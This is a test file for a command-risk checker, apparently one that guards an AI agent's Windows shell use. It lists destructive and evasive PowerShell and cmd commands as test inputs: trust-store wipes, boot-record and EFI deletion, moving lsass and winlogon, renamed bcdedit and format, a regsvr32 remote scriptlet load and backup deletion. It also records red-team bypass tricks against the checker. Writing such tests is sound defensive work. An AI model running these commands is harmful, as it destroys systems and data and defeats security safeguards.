"""n14w: Windows families where earlier fixes reached only part of the class (probe13b's
neighbours) and the session-16 conventions (sources_n14w.tsv).

- The machine's trust stores (Cert:\\LocalMachine\\Root, AuthRoot, CA) emptied or a root
  removed, by Remove-Item (a path, a glob, a piped listing), `certutil -delstore` or a .NET
  X509Store Remove/RemoveRange: blocked, like the Unix CA store.
- One snapshot picked by a count of one (`Select-Object -First 1`, `-Last 1`, `select -f 1`)
  is one snapshot (dangerous); every snapshot of a machine stays blocked.
- A backup storage account named by position (`Remove-AzStorageAccount rg corpbackups`).
- Logon/boot binaries moved away by Move-Item (a file path is no registry write).

Each blocked case keeps its level when wrapped (powershell -c from cmd, cmd /c, a function,
Invoke-Expression, a scriptblock); look-alikes (reads, -WhatIf, the words printed, the user's
own store) stay below blocked.
"""

from __future__ import annotations

import pytest

from aintern_ls.safety import RiskLevel, assess


def _ps_wrapped(command: str) -> list[tuple[str, str]]:
    dq = command.replace('"', '\\"')
    sq = command.replace("'", "''")
    return [
        (command, "powershell"),
        (f"function f {{ {command} }}; f", "powershell"),
        (f"Invoke-Expression '{sq}'", "powershell"),
        (f"& {{ {command} }}", "powershell"),
        (f'powershell -NoProfile -Command "{dq}"', "cmd"),
        (f'pwsh -c "{dq}"', "powershell"),
    ]


TRUST_STORE_WIPES = [
    r"Remove-Item -Path Cert:\LocalMachine\Root\* -Force",
    r"Get-ChildItem Cert:\LocalMachine\AuthRoot | Remove-Item",
    r"gci cert:/localmachine/ca | ri -Force",
    r"Set-Location Cert:\LocalMachine\AuthRoot; Remove-Item * -Force",
    r"$s = [Security.Cryptography.X509Certificates.X509Store]::new('Root','LocalMachine');"
    r" $s.Open('ReadWrite'); $s.RemoveRange($s.Certificates)",
]


@pytest.mark.parametrize("command", TRUST_STORE_WIPES)
def test_the_machine_trust_store_emptied_is_blocked_in_any_host(command: str) -> None:
    for text, shell in _ps_wrapped(command):
        got = assess(text, shell)
        assert got.level == RiskLevel.BLOCKED, f"{text!r}: {got.level.label}"
        assert any(f.rule == "cert-store-wipe" for f in got.findings), text


@pytest.mark.parametrize(
    "command",
    [
        "certutil -delstore Root 5fdd2c8f5a7d4e1a9b3c",
        "certutil -f -enterprise -delstore AuthRoot 5fdd2c8f",
        'cmd /c "certutil -delstore CA 0a1b2c"',
        "certutil -delstore -enterprise Root 5fdd",
    ],
)
def test_certutil_delstore_of_one_trusted_certificate_is_critical(command: str) -> None:
    # (session 16 convention, 22:45: ONE certificate taken out of a machine store: critical)
    for shell in ("cmd", "powershell"):
        assert assess(command, shell).level == RiskLevel.CRITICAL, (command, shell)


@pytest.mark.parametrize(
    "command",
    [
        r"Get-ChildItem Cert:\LocalMachine\Root | Where-Object Subject -like '*Corp*' | ri",
        r"Remove-Item Cert:\LocalMachine\Root\CDD4EEAE6000AC7F40C3802C171E30148030C072",
    ],
)
def test_one_or_some_trusted_certificates_removed_are_critical(command: str) -> None:
    assert assess(command, "powershell").level == RiskLevel.CRITICAL, command


@pytest.mark.parametrize(
    "command,shell,most",
    [
        (r"Get-ChildItem Cert:\LocalMachine\Root", "powershell", RiskLevel.SAFE),
        (r"Remove-Item Cert:\LocalMachine\Root\* -WhatIf", "powershell", RiskLevel.SAFE),
        (r"Remove-Item Cert:\CurrentUser\My\0123ABCD", "powershell", RiskLevel.DANGEROUS),
        ("certutil -store Root", "cmd", RiskLevel.SAFE),
        ("certutil -user -delstore Root 5fdd", "cmd", RiskLevel.DANGEROUS),
        ("certutil -delstore My 5fdd", "cmd", RiskLevel.DANGEROUS),
        ("certmgr -del -c -s -r currentUser my", "cmd", RiskLevel.DANGEROUS),
        (r"cd Cert:\CurrentUser\My; Remove-Item .\0123ABCD", "powershell", RiskLevel.DANGEROUS),
        (
            r"Get-ChildItem Cert:\CurrentUser\My | Where-Object NotAfter -lt (Get-Date) |"
            r" Remove-Item",
            "powershell",
            RiskLevel.DANGEROUS,
        ),
        ('Write-Host "certutil -delstore Root x"', "powershell", RiskLevel.SAFE),
        ("echo certutil -delstore Root x", "cmd", RiskLevel.SAFE),
    ],
)
def test_trust_store_look_alikes_stay_below_blocked(
    command: str, shell: str, most: RiskLevel
) -> None:
    assert assess(command, shell).level <= most, command


@pytest.mark.parametrize(
    "command",
    [
        "Get-VMSnapshot -VMName web01 | Select-Object -First 1 | Remove-VMSnapshot",
        "Get-VMSnapshot -VMName web01 | Sort-Object CreationTime | Select -Last 1 |"
        " Remove-VMSnapshot",
        "Get-VMCheckpoint -VMName db | select -f 1 | Remove-VMCheckpoint",
        "Get-VMSnapshot -VMName db | Select-Object -Index 2 | Remove-VMSnapshot",
    ],
)
def test_one_snapshot_picked_by_a_count_of_one_is_dangerous(command: str) -> None:
    for text, shell in _ps_wrapped(command)[:2]:
        assert assess(text, shell).level == RiskLevel.DANGEROUS, text


@pytest.mark.parametrize(
    "command",
    [
        "Get-VMSnapshot -VMName web01 | Remove-VMSnapshot",
        "Get-VM | Select-Object -First 1 | Get-VMSnapshot | Remove-VMSnapshot",
        "Get-VMCheckpoint -VMName db | Remove-VMCheckpoint",
        "Get-VMSnapshot -VMName web01 | Select-Object -First 3 | Remove-VMSnapshot",
    ],
)
def test_every_snapshot_of_a_machine_stays_blocked(command: str) -> None:
    for text, shell in _ps_wrapped(command)[:2]:
        assert assess(text, shell).level == RiskLevel.BLOCKED, text


@pytest.mark.parametrize(
    "command",
    [
        "Remove-AzStorageAccount rg-data corpbackups",
        "Remove-AzStorageAccount -ResourceGroupName rg-data corpbackups -Force",
        "Remove-AzStorageAccount -Force rg-data bkpstore01",
    ],
)
def test_a_backup_storage_account_named_by_position_is_blocked(command: str) -> None:
    for text, shell in _ps_wrapped(command):
        assert assess(text, shell).level == RiskLevel.BLOCKED, text


@pytest.mark.parametrize(
    "command",
    ["Remove-AzStorageAccount rg-data webassets", "Remove-AzStorageAccount backuprg webassets"],
)
def test_an_ordinary_storage_account_stays_dangerous(command: str) -> None:
    assert assess(command, "powershell").level == RiskLevel.DANGEROUS


@pytest.mark.parametrize(
    "command",
    [
        r"Move-Item C:\Windows\System32\winlogon.exe C:\Windows\Temp\w.bak",
        r"Move-Item -Path $env:windir\System32\userinit.exe -Destination C:\x\u.exe",
        r"Rename-Item C:\Windows\System32\lsass.exe lsass.old",
    ],
)
def test_logon_binaries_moved_away_are_blocked(command: str) -> None:
    for text, shell in _ps_wrapped(command):
        assert assess(text, shell).level == RiskLevel.BLOCKED, text


def test_a_registry_copy_keeps_its_persistence_finding() -> None:
    got = assess(
        r'Copy-Item evil.exe "HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon"',
        "powershell",
    )
    assert any(f.rule == "persistence-registry" for f in got.findings)


@pytest.mark.parametrize(
    "command",
    [
        r"Remove-Item (Get-Item $env:USERPROFILE).PSParentPath -Recurse -Force",
        r"$p = (gi ~).PSParentPath; Remove-Item $p -Recurse -Force",
        r"Split-Path -Path $env:USERPROFILE | Remove-Item -Recurse -Force",
        r"'C:\Users\me' | Split-Path | Remove-Item -Recurse -Force",
        r"Split-Path $HOME -Qualifier | Remove-Item -Recurse -Force",
    ],
)
def test_home_parent_and_drive_through_split_path_or_psparentpath_are_blocked(
    command: str,
) -> None:
    for text, shell in _ps_wrapped(command)[:2]:
        assert assess(text, shell).level == RiskLevel.BLOCKED, text


@pytest.mark.parametrize(
    "command,most",
    [
        (r"(Get-Item ~).PSParentPath", RiskLevel.SAFE),
        (r"Split-Path $env:USERPROFILE | Get-ChildItem", RiskLevel.SAFE),
        (r"Split-Path $HOME -Leaf | Write-Output", RiskLevel.SAFE),
        (r"Remove-Item (Join-Path $HOME 'tmp\cache') -Recurse -Force", RiskLevel.DANGEROUS),
    ],
)
def test_home_parent_look_alikes(command: str, most: RiskLevel) -> None:
    assert assess(command, "powershell").level <= most, command


@pytest.mark.parametrize(
    "command",
    [
        r'for %d in ("%USERPROFILE%\..") do rmdir /s /q "%~fd"',
        r'for %d in ("%USERPROFILE%\Desktop") do rd /s /q "%~dpd"',
        r'for %%d in ("%USERPROFILE%\..") do rd /s /q "%%~fd"',
    ],
)
def test_cmd_for_modifiers_on_a_home_path_are_judged(command: str) -> None:
    assert assess(command, "cmd").level == RiskLevel.BLOCKED, command
    wrapped = 'cmd /c "' + command.replace("%%", "%") + '"'
    assert assess(wrapped, "powershell").level == RiskLevel.BLOCKED, wrapped


def test_cmd_for_modifiers_look_alikes() -> None:
    assert assess(r'for %d in ("%USERPROFILE%\..") do dir "%~fd"', "cmd").level == RiskLevel.SAFE
    got = assess(r'for %d in ("C:\src\app\build") do rd /s /q "%~fd"', "cmd").level
    assert got == RiskLevel.DANGEROUS


@pytest.mark.parametrize(
    "command",
    [
        r"{ Remove-Item $args[0] -Recurse -Force }.Invoke('C:\Windows')",
        r"{ param($t) rd $t -r -fo }.InvokeReturnAsIs($env:USERPROFILE)",
        r"{ param($t) [IO.Directory]::Delete($t, $true) }.Invoke('C:\Users')",
    ],
)
def test_a_scriptblock_literal_invoked_with_a_protected_path_is_blocked(command: str) -> None:
    for text, shell in _ps_wrapped(command)[:2]:
        assert assess(text, shell).level == RiskLevel.BLOCKED, text


def test_a_scriptblock_literal_look_alikes() -> None:
    assert assess(r"{ Get-ChildItem $args[0] }.Invoke('C:\Windows')", "powershell").level == (
        RiskLevel.SAFE
    )
    got = assess(r"{ Remove-Item $args[0] -Recurse }.Invoke('.\out')", "powershell").level
    assert got == RiskLevel.DANGEROUS


@pytest.mark.parametrize(
    "command",
    [
        "deno eval 'Deno.removeSync(Deno.env.get(\"SystemRoot\")!, { recursive: true })'",
        "bun -e 'require(\"fs\").rmSync(Bun.env.windir!, { recursive: true, force: true })'",
        'bun -e \'require("fs").rmSync(Bun.env["USERPROFILE"], { recursive: true })\'',
        "deno eval 'await Deno.remove(import.meta.env.WINDIR!, { recursive: true })'",
    ],
)
def test_js_runtime_env_lookups_of_windows_folders_resolve(command: str) -> None:
    assert assess(command, "powershell").level == RiskLevel.BLOCKED, command
    # from cmd (double quotes outside, single inside)
    flipped = command.replace('"', "\x00").replace("'", '"').replace("\x00", "'")
    assert assess(flipped, "cmd").level == RiskLevel.BLOCKED, flipped


def test_js_runtime_env_look_alikes() -> None:
    got = assess("deno eval 'console.log(Deno.env.get(\"windir\")!)'", "powershell").level
    assert got <= RiskLevel.MODERATE
    got = assess(
        "bun -e 'require(\"fs\").rmSync(Bun.env.OUT_DIR!, {recursive: true})'", "powershell"
    )
    assert got.level == RiskLevel.DANGEROUS


@pytest.mark.parametrize(
    "command,shell",
    [
        (
            r"New-Item -ItemType HardLink -Path C:\t\b.exe -Target C:\Windows\System32\bcdedit.exe;"
            r" C:\t\b.exe /delete '{current}' /f",
            "powershell",
        ),
        (
            r"Copy-Item $env:windir\System32\bcdedit.exe C:\t\a.exe; Rename-Item C:\t\a.exe b.exe;"
            r" & C:\t\b.exe /delete '{current}' /f",
            "powershell",
        ),
        (r"$c = (gcm wbadmin).Path; & $c delete catalog -quiet", "powershell"),
        (r"& (Get-Command bcdedit).Source /delete '{current}' /f", "powershell"),
        (r"$f = where.exe format; & $f E: /q /y", "powershell"),
        (
            r"mklink /h C:\t\b.exe %SystemRoot%\System32\bcdedit.exe & C:\t\b.exe"
            r" /delete {current} /f",
            "cmd",
        ),
        (r"copy C:\Windows\System32\format.com %TEMP%\t.com & %TEMP%\t.com E: /q /y", "cmd"),
        (r"copy C:\Windows\System32\bcdedit.exe b.exe & b /delete {current} /f", "cmd"),
        ("doskey fm=format $*\nfm E: /q /y", "cmd"),
        (
            r"Start-Process (Get-Command bcdedit).Source -ArgumentList '/delete {current} /f'",
            "powershell",
        ),
        (r"Set-Alias cfg (gcm bcdedit).Path; cfg /delete '{current}' /f", "powershell"),
        (r"Set-Alias cfg bcdedit.exe; cfg /delete '{current}' /f", "powershell"),
        ("doskey bc=bcdedit /delete $1 /f $T echo ok\nbc {current}", "cmd"),
        ("(echo n=format $*) > m.txt & doskey /macrofile=m.txt\nn C: /q /y", "cmd"),
    ],
)
def test_a_windows_program_under_another_name_is_that_program(command: str, shell: str) -> None:
    assert assess(command, shell).level == RiskLevel.BLOCKED, command


@pytest.mark.parametrize(
    "command,shell,most",
    [
        (r"$c = (gcm wbadmin).Path; & $c get versions", "powershell", RiskLevel.SAFE),
        (r"where.exe bcdedit", "powershell", RiskLevel.SAFE),
        ("doskey /macros", "cmd", RiskLevel.SAFE),
        ("doskey fm=format $*", "cmd", RiskLevel.MODERATE),
        (r"copy C:\Windows\System32\bcdedit.exe C:\t\b.exe", "cmd", RiskLevel.MODERATE),
        ("echo doskey fm=format $* & echo fm C:", "cmd", RiskLevel.SAFE),
    ],
)
def test_renamed_program_look_alikes(command: str, shell: str, most: RiskLevel) -> None:
    assert assess(command, shell).level <= most, command


@pytest.mark.parametrize(
    "command",
    [
        "Remove-AzResource -ResourceId /subscriptions/1/resourceGroups/rg/providers/"
        "Microsoft.Storage/storageAccounts/nightlybackups -Force",
        "Remove-AzResource -ResourceGroupName rg -ResourceName dbbkp01"
        " -ResourceType Microsoft.Storage/storageAccounts -Force",
        "Remove-AzResource -ResourceId /subscriptions/1/resourceGroups/rg/providers/"
        "Microsoft.DataProtection/backupVaults/vault1 -Force",
        "Get-AzStorageAccount -ResourceGroupName rg | Where-Object StorageAccountName -like"
        " '*bkp*' | Remove-AzStorageAccount -Force",
        "Get-S3Bucket | ? { $_.BucketName -match 'backups' } | Remove-S3Bucket -Force",
    ],
)
def test_backup_stores_removed_by_any_az_or_aws_spelling_are_blocked(command: str) -> None:
    for text, shell in _ps_wrapped(command)[:3]:
        assert assess(text, shell).level == RiskLevel.BLOCKED, text


@pytest.mark.parametrize(
    "command,most",
    [
        (
            "Remove-AzResource -ResourceId /subscriptions/1/resourceGroups/rg/providers/"
            "Microsoft.Storage/storageAccounts/webassets -Force",
            RiskLevel.DANGEROUS,
        ),
        (
            "Get-S3Bucket | Where-Object BucketName -like 'logs-*' | Remove-S3Bucket -Force",
            RiskLevel.DANGEROUS,
        ),
        ("Get-S3Bucket | Where-Object BucketName -like '*backup*'", RiskLevel.SAFE),
    ],
)
def test_backup_store_look_alikes(command: str, most: RiskLevel) -> None:
    assert assess(command, "powershell").level <= most, command


@pytest.mark.parametrize(
    "command,shell",
    [
        (
            r"Copy-Item C:\Windows\System32\bcdedit.exe C:\t\b.exe;"
            r' cmd /c "C:\t\b.exe /delete {current} /f"',
            "powershell",
        ),
        (
            r"copy C:\Windows\System32\bcdedit.exe C:\t\b.exe &"
            r""" powershell -c "& C:\t\b.exe /delete '{current}' /f" """,
            "cmd",
        ),
        (
            r"$sb = { param($p) Remove-Item $p -Recurse -Force }; $sb.Invoke(@('C:\Windows'))",
            "powershell",
        ),
        (r"$sb = { Remove-Item $input -Recurse -Force }; 'C:\Windows' | & $sb", "powershell"),
    ],
)
def test_bindings_cross_into_the_other_windows_shell_and_block_inputs(
    command: str, shell: str
) -> None:
    assert assess(command, shell).level == RiskLevel.BLOCKED, command


# --- REDTEAM round 14 Windows families ---------------------------------------------------


@pytest.mark.parametrize(
    "command,shell",
    [
        ("bootsect /nt60 all /force /mbr", "cmd"),
        ("bootsect.exe /nt60 SYS /mbr /force", "powershell"),
        (r"mountvol S: /s & del /s /q S:\EFI\*", "cmd"),
        (r"mountvol Q: /s; Remove-Item Q:\EFI -Recurse -Force", "powershell"),
        (
            r"$s = Get-WmiObject -Class Win32_Service -Filter \"Name='SamSs'\"; $s.Delete()",
            "powershell",
        ),
        (
            'echo CreateObject("Scripting.FileSystemObject").DeleteFolder "C:\\Windows" > x.vbs'
            " & cscript //nologo x.vbs",
            "cmd",
        ),
        (
            'echo CreateObject("WScript.Shell").Run "cmd /c rd /s /q C:\\Users" > r.vbs'
            " & wscript r.vbs",
            "cmd",
        ),
        ('echo import shutil; shutil.rmtree("C:/Windows")> x.py & python x.py', "cmd"),
        ('echo import shutil > y.py & echo shutil.rmtree("C:/Users") >> y.py & python y.py', "cmd"),
        ('Set-Content Makefile "all:`n`trd /s /q C:\\Windows"; nmake /f Makefile', "powershell"),
        (
            'Set-Content package.json \'{"scripts":{"build":"rd /s /q C:\\\\Windows"}}\';'
            " npm run build",
            "powershell",
        ),
    ],
)
def test_round14_windows_blocked_families(command: str, shell: str) -> None:
    got = assess(command, shell)
    assert got.level == RiskLevel.BLOCKED, (
        command,
        got.level.label,
        [f.rule for f in got.findings],
    )


@pytest.mark.parametrize(
    "command,shell",
    [
        (r"regsvr32 /s /n /u /i:\\10.0.0.5\share\x.sct scrobj.dll", "cmd"),
        (r"$env:DOTNET_STARTUP_HOOKS = 'C:\t\hook.dll'; dotnet run", "powershell"),
        (r"set DOTNET_STARTUP_HOOKS=C:\t\hook.dll & dotnet build", "cmd"),
        ("Set-AzStorageContainerAcl -Name data -Permission Container -Context $ctx", "powershell"),
        ("New-AzStorageContainer -Name pub -Permission Blob -Context $ctx", "powershell"),
        (
            "Set-AzStorageAccount -ResourceGroupName rg -Name a -AllowBlobPublicAccess $true",
            "powershell",
        ),
    ],
)
def test_round14_windows_critical_families(command: str, shell: str) -> None:
    assert assess(command, shell).level == RiskLevel.CRITICAL, command


@pytest.mark.parametrize(
    "command,shell,most",
    [
        ("bootsect /nt60 C: /mbr", "cmd", RiskLevel.CRITICAL),
        ("bootsect /help", "cmd", RiskLevel.SAFE),
        (r"mountvol S: /s & dir S:\EFI", "cmd", RiskLevel.MODERATE),
        ("mountvol", "cmd", RiskLevel.SAFE),
        (r"del /s /q S:\EFI\*", "cmd", RiskLevel.DANGEROUS),
        (
            r"$s = Get-WmiObject Win32_Service -Filter \"Name='Spooler'\"; $s.StartService()",
            "powershell",
            RiskLevel.SAFE,
        ),
        ('echo WScript.Echo "hi" > x.vbs & cscript x.vbs', "cmd", RiskLevel.MODERATE),
        ('echo print("hi") > x.py & python x.py', "cmd", RiskLevel.MODERATE),
        (r"regsvr32 /s /n /u /i:x.sct scrobj.dll", "cmd", RiskLevel.MODERATE),
        ("$env:DOTNET_CLI_TELEMETRY_OPTOUT = '1'; dotnet build", "powershell", RiskLevel.MODERATE),
        (
            "New-AzStorageContainer -Name priv -Permission Off -Context $ctx",
            "powershell",
            RiskLevel.MODERATE,
        ),
        (
            "Set-AzStorageContainerAcl -Name d -Permission Container -WhatIf",
            "powershell",
            RiskLevel.SAFE,
        ),
        (
            'Set-Content package.json \'{"scripts":{"build":"tsc -p ."}}\'; npm run build',
            "powershell",
            RiskLevel.MODERATE,
        ),
    ],
)
def test_round14_look_alikes(command: str, shell: str, most: RiskLevel) -> None:
    assert assess(command, shell).level <= most, command


@pytest.mark.parametrize(
    "command,shell,level",
    [
        (
            'echo rd /s /q "%%~dp0.." > %USERPROFILE%\\x.bat & %USERPROFILE%\\x.bat',
            "cmd",
            RiskLevel.BLOCKED,
        ),
        (
            'echo rmdir /s /q "%%~dp0build" > C:\\src\\app\\c.bat & C:\\src\\app\\c.bat',
            "cmd",
            RiskLevel.DANGEROUS,
        ),
        ("1..5 | ForEach-Object -Parallel { Write-Output $_ }", "powershell", RiskLevel.SAFE),
        ("1..3 | % { Remove-Item C:\\Windows -Recurse -Force }", "powershell", RiskLevel.BLOCKED),
    ],
)
def test_batch_self_path_and_ps_ranges(command: str, shell: str, level: RiskLevel) -> None:
    assert assess(command, shell).level == level, command


@pytest.mark.parametrize(
    "command,level",
    [
        ("(Get-Item ~).PSParentPath | Remove-Item -Recurse -Force", RiskLevel.BLOCKED),
        ("(Join-Path $HOME ..) | Remove-Item -Recurse -Force", RiskLevel.BLOCKED),
        ("(Split-Path $env:USERPROFILE) | Remove-Item -Recurse -Force", RiskLevel.BLOCKED),
        (
            "Remove-Item (Split-Path ([Environment]::GetFolderPath('UserProfile'))) -Recurse",
            RiskLevel.BLOCKED,
        ),
        ("(Join-Path $HOME 'proj\\out') | Remove-Item -Recurse -Force", RiskLevel.DANGEROUS),
        ("(Split-Path $HOME) | Get-ChildItem", RiskLevel.SAFE),
        (
            "Set-Item -Path Alias:cfg -Value bcdedit.exe; cfg /delete '{current}' /f",
            RiskLevel.BLOCKED,
        ),
        (
            "New-Item -Path Alias:\\wipe -Value Remove-Item; wipe C:\\Windows -Recurse",
            RiskLevel.BLOCKED,
        ),
        ("$p = (Get-Command wbadmin)[0].Source; & $p delete catalog -quiet", RiskLevel.BLOCKED),
        (
            "& (Get-Command -CommandType Application bcdedit) /delete '{current}' /f",
            RiskLevel.BLOCKED,
        ),
        ("& (gcm Invoke-Evil) 'x'", RiskLevel.CRITICAL),
    ],
)
def test_path_expressions_piped_and_more_program_lookups(command: str, level: RiskLevel) -> None:
    assert assess(command, "powershell").level == level, command


@pytest.mark.parametrize(
    "command,level",
    [
        (
            "$p = (Get-Command bcdedit).Source;"
            " [Diagnostics.Process]::Start($p, '/delete {current} /f')",
            RiskLevel.BLOCKED,
        ),
        ("$p = Read-Host; [Diagnostics.Process]::Start($p)", RiskLevel.CRITICAL),
        ("Remove-Item Cert:\\CurrentUser\\* -Recurse", RiskLevel.DANGEROUS),
        (
            "[IO.File]::Replace('C:\\t\\e.exe', 'C:\\Windows\\System32\\winlogon.exe',"
            " 'C:\\t\\o.bak')",
            RiskLevel.BLOCKED,
        ),
        (
            "[IO.File]::Replace('C:\\t\\a.txt', 'C:\\t\\cfg.txt', 'C:\\t\\cfg.bak')",
            RiskLevel.MODERATE,
        ),
    ],
)
def test_process_start_lookups_every_cert_store_and_file_replace(
    command: str, level: RiskLevel
) -> None:
    assert assess(command, "powershell").level == level, command


@pytest.mark.parametrize(
    "command,level",
    [
        ("(Get-VMSnapshot -VMName web01)[0] | Remove-VMSnapshot", RiskLevel.DANGEROUS),
        (
            "Remove-VMSnapshot -VMSnapshot (Get-VMSnapshot -VMName v | Select-Object -Last 1)",
            RiskLevel.DANGEROUS,
        ),
        (
            "$s = Get-VMSnapshot -VMName v | Select -First 1; $s | Remove-VMSnapshot",
            RiskLevel.DANGEROUS,
        ),
        ("$s = Get-VMSnapshot -VMName v; Remove-VMSnapshot -VMSnapshot $s[0]", RiskLevel.DANGEROUS),
        (
            "Get-VMSnapshot -VMName v | Select-Object -Skip 2 -First 1 | Remove-VMSnapshot",
            RiskLevel.DANGEROUS,
        ),
        ("$s = Get-VMSnapshot -VMName v; $s | Remove-VMSnapshot", RiskLevel.BLOCKED),
        ("Remove-VMSnapshot -VMSnapshot (Get-VMSnapshot -VMName v)", RiskLevel.BLOCKED),
        ("(Get-VM)[0] | Get-VMSnapshot | Remove-VMSnapshot", RiskLevel.BLOCKED),
        (
            "Get-VMSnapshot -VMName v | Select-Object -Index 0,1,2 | Remove-VMSnapshot",
            RiskLevel.BLOCKED,
        ),
    ],
)
def test_one_snapshot_by_index_parameter_or_variable(command: str, level: RiskLevel) -> None:
    assert assess(command, "powershell").level == level, command


@pytest.mark.parametrize(
    "command,shell,level",
    [
        ('for %a in ("%USERPROFILE%") do rd /s /q "%~da%~pa"', "cmd", RiskLevel.BLOCKED),
        ('for /f "delims=" %a in ("%USERPROFILE%") do dir "%~dpa"', "cmd", RiskLevel.SAFE),
        ('for %a in ("C:\\src\\app\\build") do rd /s /q "%~da%~pa"', "cmd", RiskLevel.DANGEROUS),
        (
            "Get-Item ~ | ForEach-Object { Remove-Item $_.PSParentPath -Recurse }",
            "powershell",
            RiskLevel.BLOCKED,
        ),
        (
            "Get-Item $HOME | % { Remove-Item $_.Parent.FullName -Recurse }",
            "powershell",
            RiskLevel.BLOCKED,
        ),
        (
            "Get-ChildItem $HOME | % { Remove-Item $_.PSParentPath -Recurse }",
            "powershell",
            RiskLevel.BLOCKED,
        ),
        (
            "Get-ChildItem C:\\src\\app | % { Remove-Item $_.PSParentPath -Recurse }",
            "powershell",
            RiskLevel.DANGEROUS,
        ),
        (
            "Get-Item ~ | ForEach-Object { Write-Host $_.PSParentPath }",
            "powershell",
            RiskLevel.SAFE,
        ),
    ],
)
def test_parent_through_for_modifiers_and_loop_members(
    command: str, shell: str, level: RiskLevel
) -> None:
    assert assess(command, shell).level == level, command


@pytest.mark.parametrize(
    "command,shell,level",
    [
        (
            r"reg delete HKLM\SOFTWARE\Microsoft\SystemCertificates\ROOT\Certificates /f",
            "cmd",
            RiskLevel.BLOCKED,
        ),
        (
            r"reg delete HKLM\SOFTWARE\Policies\Microsoft\SystemCertificates\Root /f",
            "cmd",
            RiskLevel.BLOCKED,
        ),
        (
            r"Remove-Item 'HKLM:\SOFTWARE\Microsoft\SystemCertificates\AuthRoot' -Recurse -Force",
            "powershell",
            RiskLevel.BLOCKED,
        ),
        (
            r"reg delete HKCU\SOFTWARE\Microsoft\SystemCertificates\My /f",
            "cmd",
            RiskLevel.DANGEROUS,
        ),
        (
            r"reg query HKLM\SOFTWARE\Microsoft\SystemCertificates\ROOT\Certificates",
            "cmd",
            RiskLevel.SAFE,
        ),
    ],
)
def test_the_trust_stores_registry_spelling(command: str, shell: str, level: RiskLevel) -> None:
    assert assess(command, shell).level == level, command
